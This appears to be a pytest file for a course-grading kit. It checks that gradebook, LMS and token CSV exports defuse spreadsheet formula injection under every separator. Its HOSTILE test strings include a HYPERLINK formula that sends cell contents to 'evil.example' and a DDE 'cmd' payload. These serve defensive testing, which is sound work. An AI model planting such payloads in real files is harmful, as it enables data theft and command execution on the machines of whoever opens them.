"""No CSV the kit writes holds a formula, whatever separator a spreadsheet splits it on.

A spreadsheet set to ``;`` (usual where the decimal mark is a comma), tab or ``|`` cuts ``x;=HYPERLINK(...)``
into ``x`` and ``=HYPERLINK(...)``, a formula, though the comma-separated cell started with ``x``. Hostile text
reaches every CSV: a student's folder or zip name (``student_id``, lms.csv's ``Student``), a refused file's name
or a zip's name in ``reason``, the instructor's reviews (``review_note``...), the course's title and column names.
Each written file is read back with every separator, by Python's ``csv`` module and by a reader that ignores the
quotes, and no cell may start (after spaces) with a formula sign; the scores stay plain numbers and ordinary
names come back as they are.

The in-memory test drives the real writers (``gradebook.write``, ``exports.write_lms``) with reviews loaded
from an overrides file and applied (``overrides.load``, ``overrides.apply``); the batch test runs the whole
``runner.batch`` (one submission graded, with refused links; the others cannot be graded, so cost nothing). The
course server's CSV files are checked through its writer and through its routes, over a store whose roster names,
reasons, reviews and course title are hostile.
"""

import csv
import io
import json
import re
from pathlib import Path

import pytest

from grader.assignment import load as load_assignment
from grader.batch import exports, gradebook, overrides, runner

SEPARATORS = (",", ";", "\t", "|")
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
HOSTILE = (
    'x; =HYPERLINK("http://evil.example/?"&A1,"marks")',
    "a|@SUM(1)",
    "a\t-2+3",
    "Lee, -1+2",
    "dde;=cmd|' /C calc'!A0",
    "fw;\uff1d1+1",
    "fw|\uff0b1",
    "fw,\uff0d1",
    "fw\t\uff20SUM(1)",
    " =1+1",
    "=2+2",
    "\t+1",
    "-2+3",
    'q;"=1+1"',
    "two\nlines;\n=1+1",
    "cr\r=1+1",
)
"""Student names, reasons, notes, titles: each holds a formula after a separator (or at its start)."""
NORMAL = ("李雷", "O'Brien, Pat")
"""Names that must come back from the gradebook exactly as they are."""
GRADEBOOK_NUMBERS = ("total", "max", "before_review", "adjustment", "late")


def _start(cell, quotes=False):
    """``cell`` without the leading spaces (and double quotes, when ``quotes``) a spreadsheet may skip; tab and
    carriage return are formula signs themselves, so they stay."""
    skip = '"' if quotes else ""
    i = 0
    while i < len(cell) and ((cell[i].isspace() and cell[i] not in "\t\r") or cell[i] in skip):
        i += 1
    return cell[i:]


def _formula_cells(text, numbers=()):
    """``(separator, reader, cell)`` for each cell of the CSV ``text`` that starts with a formula sign when read
    with each separator, by the ``csv`` module and by splitting lines at the separator (quotes ignored).
    ``numbers``: the columns (by heading) whose cells may be plain numbers (``-0.5``), read with ``,``."""
    found = []
    for sep in SEPARATORS:
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        columns = rows[0] if rows and sep == "," else []
        for row in rows:
            for i, cell in enumerate(row):
                if i < len(columns) and columns[i] in numbers and NUMBER.fullmatch(cell):
                    continue
                if _start(cell).startswith(FORMULA_SIGNS):
                    found.append((sep, "csv", cell))
        for line in re.split(r"\r\n|\r|\n", text):
            for fragment in line.split(sep):
                if NUMBER.fullmatch(fragment):  # a number cell: a number to the spreadsheet, never a formula
                    continue
                if _start(fragment, quotes=True).startswith(FORMULA_SIGNS):
                    found.append((sep, "split", fragment))
    return found


def _read(path):
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())
    return raw.decode("utf-8")[1:]


def _rows(text, key, numbers=()):
    """The rows of the CSV ``text`` by their ``key`` column; each cell of the ``numbers`` columns is a plain
    number (or empty)."""
    rows = {row[key]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    for row in rows.values():
        for column in numbers:
            assert row[column] == "" or NUMBER.fullmatch(row[column]), (column, row)
    return rows


def test_the_detector_finds_each_hostile_string_as_written():
    """Written as they are (no defusing), every hostile string is found with some separator: the checks below
    would fail on a writer that let one through."""
    for s in HOSTILE:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\r\n").writerow(["ok", s])
        assert _formula_cells(buf.getvalue()), s
    ordinary = 'name,other,score,delta\r\n"O\'Brien, Pat",李雷,12,-2.5\r\n'
    assert _formula_cells(ordinary, numbers=("score", "delta")) == []
    assert _formula_cells(ordinary, numbers=("score",)) == [(",", "csv", "-2.5")]  # a number only where one is due


@pytest.mark.parametrize("s", HOSTILE)
def test_text_cell_defuses_every_fragment_and_is_idempotent(s):
    cell = gradebook.text_cell(s)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow([cell])
    assert _formula_cells(buf.getvalue()) == []
    assert gradebook.text_cell(cell) == cell  # a name copied from the gradebook is the same name
    assert cell.replace("'", "") == s.replace("\t", " ").replace("\r", " ").strip().replace("'", "")  # readable


def test_text_cell_keeps_ordinary_text():
    for s in NORMAL + ("Wang Fang (王芳)", "a - b", "x = 1", "score 3; late", "e-mail@example.com"):
        assert gradebook.text_cell(s) == s
    assert gradebook.text_cell("x; =1") == "x; '=1"
    assert gradebook.text_cell("a|@SUM(1)") == "a|'@SUM(1)"
    assert gradebook.text_cell("fw;\uff1d1") == "fw;'\uff1d1"


# -- the real writers, in memory ---------------------------------------------------------------------------
def _record(student, reason, score, tasks):
    return {
        "student": student,
        "folder": "f",
        "hash": "h",
        "status": "refused",
        "reason": reason,
        "problems": [{"status": "refused", "reason": reason}],
        "score": score,
        "max_score": 10.0,
        "raw_score": score,
        "tasks": tasks,
        "raw_tasks": tasks,
        "task_max": {"masks": 10.0},
    }


def test_gradebook_lms_and_reviews_are_safe_with_every_separator(tmp_path):
    names = list(HOSTILE) + list(NORMAL)
    records = [_record(name, HOSTILE[i % len(HOSTILE)], 7.5, {"masks": 7.5}) for i, name in enumerate(names)]
    reviews = tmp_path / "overrides.csv"
    with reviews.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(overrides.CSV_COLUMNS)
        for i, name in enumerate(names):
            hostile = HOSTILE[(i + 1) % len(HOSTILE)]
            named = gradebook.text_cell(name) if i % 2 else name  # as the gradebook shows it, or as it is
            writer.writerow([named, "-0.5", "", "1", "", hostile, hostile, hostile])
    found = overrides.load(reviews, students=names)
    assert found.unknown == [] and len(found) == len(names)
    final = [overrides.apply(r, found.for_student(r["student"]), copy_policy="zero") for r in records]
    assignment = load_assignment()
    gradebook.write(final, tmp_path / "gradebook.csv", assignment, headings={"masks": "Q3;=1+1"})
    lms = exports.write_lms(final, tmp_path, title="HW|@SUM(1)")

    text = _read(tmp_path / "gradebook.csv")
    assert _formula_cells(text, numbers=GRADEBOOK_NUMBERS + ("Q3;'=1+1",)) == []
    rows = _rows(text, "student_id", GRADEBOOK_NUMBERS + ("Q3;'=1+1",))
    for name in NORMAL:
        assert rows[name]["total"] == "6" and rows[name]["adjustment"] == "-0.5" and rows[name]["late"] == "1"
        assert rows[name]["Q3;'=1+1"] == "7.5" and rows[name]["before_review"] == "7.5"
    assert len(rows) == len(names)
    lms_text = _read(lms)
    assert _formula_cells(lms_text, numbers=("HW|'@SUM(1)",)) == []
    lms_rows = _rows(lms_text, "SIS Login ID", ("HW|'@SUM(1)",))
    assert {name: lms_rows[name]["HW|'@SUM(1)"] for name in NORMAL} == {name: "6" for name in NORMAL}


# -- the whole batch ----------------------------------------------------------------------------------------
FOLDERS = ("x;=HYPERLINK(1)", "a|@SUM(1)", "b\t-2+3", "Lee, -1+2", "fw;\uff1d1", " =1+1", "\uff20x")
"""Student folders holding no code: each gets a row without being graded."""
ZIPS = ("z;=cmd|'calc'!A0", "y|+1")
"""Zips that are not zips: the reason names them."""
LINKS = ('evil;=HYPERLINK("e")', "x|@SUM(1)", "t\t-1+1", "fw,\uff0b1")
"""Links in the graded submission: refused, and named in its reason."""
CONFIG = """tasks = ["masks"]
title = "HW1;=1+1"
[columns]
masks = "Q7|@SUM(1)"
[limits]
call_timeout = 6
total_timeout = 20
"""


def _reviews(students):
    lines = []
    for i, student in enumerate(students):
        hostile = json.dumps(HOSTILE[i % len(HOSTILE)], ensure_ascii=False)
        lines.append(
            f"[students.{json.dumps(student, ensure_ascii=False)}]\npoints = -0.5\nnote = {hostile}\n"
            f"by = {hostile}\nwhy = {hostile}\n"
        )
    return "\n".join(lines)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    base = tmp_path_factory.mktemp("csv_safety")
    cls = base / "class"
    cls.mkdir()
    for name in FOLDERS + NORMAL:
        (cls / name).mkdir()
    for name in ZIPS:
        (cls / f"{name}.zip").write_bytes(b"not a zip")
    (cls / "-linked;=1").symlink_to(cls / NORMAL[0], target_is_directory=True)
    graded = cls / "graded"
    graded.mkdir()
    (graded / "masks.py").write_text("def causal_mask(n:\n")  # a syntax error: graded, and fast
    for name in LINKS:
        (graded / name).symlink_to("masks.py")
    course = base / "course"
    course.mkdir()
    (course / "gradekit.toml").write_text(CONFIG)
    (course / "overrides.toml").write_text(
        _reviews([f.replace("\t", "\\t") for f in FOLDERS] + ["graded", NORMAL[1]]),  # named as shown
        encoding="utf-8",
    )
    result = runner.batch(submissions=cls, out=base / "out", jobs=1, profile="quick", config=course / "gradekit.toml")
    return {"out": base / "out", "result": result}


def test_the_batch_gradebook_is_safe_with_every_separator(batch):
    text = _read(batch["out"] / "gradebook.csv")
    rows = _rows(text, "student_id", GRADEBOOK_NUMBERS + ("Q7|'@SUM(1)",))
    assert len(rows) == len(FOLDERS) + len(ZIPS) + len(NORMAL) + 2, sorted(rows)
    assert _formula_cells(text, numbers=GRADEBOOK_NUMBERS + ("Q7|'@SUM(1)",)) == []
    graded = rows["graded"]
    assert graded["status"] == "refused" and "HYPERLINK" in graded["reason"] and "SUM(1)" in graded["reason"]
    assert graded["adjustment"] == "-0.5" and graded["total"] == "0" and graded["max"] != "0"
    assert NUMBER.fullmatch(graded["Q7|'@SUM(1)"]) and NUMBER.fullmatch(graded["max"])
    assert rows[NORMAL[0]]["reason"] and rows[NORMAL[1]]["adjustment"] == "-0.5"
    assert any("calc" in row["reason"] for row in rows.values())  # a zip's name, in its reason
    assert batch["result"].warnings == []  # every review found its student


def test_the_batch_lms_export_is_safe_with_every_separator(batch):
    text = _read(batch["out"] / "lms.csv")
    assert _formula_cells(text, numbers=("HW1;'=1+1",)) == []
    rows = _rows(text, "SIS Login ID", ("HW1;'=1+1",))
    assert set(NORMAL) <= set(rows) and rows[NORMAL[1]]["Student"] == NORMAL[1]
    assert rows["graded"]["HW1;'=1+1"] == "0" and rows[NORMAL[0]]["HW1;'=1+1"] == ""


def test_every_csv_the_batch_writes_is_checked(batch):
    """The batch writes gradebook.csv and lms.csv and no other CSV: a new one needs its own check above."""
    assert sorted(p.name for p in Path(batch["out"]).rglob("*.csv")) == ["gradebook.csv", "lms.csv"]


def _server_review(i):
    """A final record's ``review`` with hostile text, as ``overrides.apply`` makes it."""
    hostile = HOSTILE[(i + 2) % len(HOSTILE)]
    entry = overrides.Override(student="s", points=-0.5, late_penalty=1, note=hostile, by=hostile, why=hostile)
    return overrides.apply(_record("s", "", 7.5, {"masks": 7.5}), entry, copy_policy="zero")["review"]


def test_the_servers_gradebook_and_tokens_files_are_safe_with_every_separator():
    from grader.server.app import gradebook_text
    from grader.server.store import new_token, tokens_text

    names = list(HOSTILE) + list(NORMAL)
    rows = [
        {
            "student": f"s{i}",
            "name": name,
            "counted": i + 1 if i % 3 else None,
            "score": -0.5 if i % 2 else 7.5,
            "max_score": 10.0,
            "status": HOSTILE[(i + 1) % len(HOSTILE)],
            "submitted": "2026-12-06T04:18:30+00:00",
            "late": bool(i % 2),
            "late_submissions": i % 3,
            "late_counted": i + 100 if i % 2 else None,
            "late_score": 9.0,
            "reason": HOSTILE[(i + 3) % len(HOSTILE)] if i % 3 else "",
            "review": _server_review(i) if i % 2 else None,
        }
        for i, name in enumerate(names)
    ]
    plain = ("total", "max", "submission", "late_submissions", "late_submission", "late_total")
    for reviews in (False, True):
        numbers = plain + (("before_review", "adjustment", "late") if reviews else ())
        text = gradebook_text(rows, reviews=reviews)
        assert _formula_cells(text, numbers=numbers) == []
        read = _rows(text, "name", numbers)
        assert {name: read[name]["student_id"] for name in NORMAL} == {n: f"s{names.index(n)}" for n in NORMAL}
        assert ("review_note" in next(iter(read.values()))) == reviews
    reviewed = read[NORMAL[1]]  # an odd row: reviewed
    assert (reviewed["before_review"], reviewed["adjustment"], reviewed["late"]) == ("7.5", "-0.5", "1")
    assert reviewed["review_note"] == gradebook.text_cell(HOSTILE[(names.index(NORMAL[1]) + 2) % len(HOSTILE)])
    assert any("HYPERLINK" in r["reason"] for r in read.values()) and read[NORMAL[0]]["review_why"] == ""
    issued = [(f"s{i}", name, new_token()) for i, name in enumerate(names)]
    tokens = tokens_text(issued)
    assert _formula_cells(tokens) == []
    assert {r["student"]: r["token"] for r in csv.DictReader(io.StringIO(tokens, newline=""))} == {
        s: t for s, _, t in issued
    }


def test_the_servers_csv_routes_are_safe_with_every_separator(tmp_path):
    """The course server's ``gradebook.csv`` and ``lms.csv`` as its routes answer them, from a store whose roster
    names, recorded reasons, reviews (``overrides.toml``) and course title are hostile: no formula under any
    separator, the review's numbers plain."""
    pytest.importorskip("starlette", reason="the server's packages are not installed: pip install -e '.[server]'")
    pytest.importorskip("sqlalchemy", reason="the server's packages are not installed: pip install -e '.[server]'")
    import dataclasses

    from starlette.requests import Request

    from grader.batch.judge import RECORD
    from grader.config import CourseConfig
    from grader.server import grading, reviews
    from grader.server.app import Server
    from grader.server.store import Store

    config = tmp_path / "gradekit.toml"
    title = json.dumps("HW|@SUM(1)")
    config.write_text(f'assignment = "transformer"\ntitle = {title}\n\n[server]\n', encoding="utf-8")
    ids = [f"s{i}" for i in range(len(HOSTILE))]
    (tmp_path / "overrides.toml").write_text(_reviews(ids), encoding="utf-8")
    with (tmp_path / "roster.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([("student", "name"), *zip(ids, HOSTILE)])
    course = CourseConfig.load(config)
    store = Store(course.server["data"])
    teacher = store.init()
    store.import_roster(tmp_path / "roster.csv")
    for i, student in enumerate(ids):
        store.add_submission(student, "py", [("masks.py", b"x = 1\n")])
        row = store.claim()
        record = _record(student, HOSTILE[(i + 1) % len(HOSTILE)], 7.5, {"masks": 7.5})
        folder = store.data / "gradings" / str(row.id) / "1-0"
        folder.mkdir(parents=True)
        (folder / RECORD).write_text(json.dumps(record), encoding="utf-8")
        store.finish(
            row,
            status="done",
            score=7,
            max_score=10,
            verdict="refused",
            reason=record["reason"],
            grading=f"{row.id}/1-0",
        )
    plan = dataclasses.replace(grading.plan(course, config), reviews=reviews.load(course, ids)[0])
    server = Server(course, store, plan=plan)
    request = Request(
        {
            "type": "http",
            "method": "GET",
            "path": "/",
            "query_string": b"",
            "headers": [(b"authorization", f"Bearer {teacher}".encode())],
        }
    )

    text = server.gradebook_csv(request).body.decode("utf-8")
    assert text.startswith("\ufeff")
    numbers = ("total", "max", "submission", "late_submissions", "late_submission", "late_total") + GRADEBOOK_NUMBERS
    assert _formula_cells(text[1:], numbers=numbers) == []
    rows = _rows(text[1:], "student_id", numbers)
    assert sorted(rows) == sorted(ids)
    assert {(r["before_review"], r["adjustment"]) for r in rows.values()} == {("7.5", "-0.5")}
    text = server.lms_csv(request).body.decode("utf-8")
    assert text.startswith("\ufeff")
    assert _formula_cells(text[1:], numbers=("HW|'@SUM(1)",)) == []
    totals = {k: r["HW|'@SUM(1)"] for k, r in _rows(text[1:], "SIS Login ID", ("HW|'@SUM(1)",)).items()}
    assert totals == dict.fromkeys(ids, "7")


def test_every_csv_writer_in_the_kit_is_checked():
    """The kit writes CSV for people in gradebook.py and exports.py, and the course server in app.py (its
    gradebook; its lms.csv is exports.py's) and store.py (the tokens to hand out); each checked above, each through
    ``text_cell``: a CSV written anywhere else needs its own check. kit.py writes a wheel's RECORD (read by pip,
    never by a spreadsheet: the student kit's own file names, their hashes and sizes;
    tests/corpus/test_kit_build.py). server/reviewfile.py writes a row of the instructor's own ``overrides.csv``, a
    file the batch reads, never an export: the review form's text as the instructor wrote it, read back as the review
    (an apostrophe put before a sign would become part of the note); the gradebook and lms.csv made from it are
    checked above (tests/unit/test_server_reviewfile.py, tests/corpus/test_server_reviews.py)."""
    root = Path(gradebook.__file__).resolve().parents[1]
    writers = sorted(
        p.relative_to(root).as_posix()
        for p in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b|\bDictWriter\(", p.read_text(encoding="utf-8"))
    )
    assert writers == [
        "batch/exports.py",
        "batch/gradebook.py",
        "kit.py",
        "server/app.py",
        "server/reviewfile.py",
        "server/store.py",
    ]
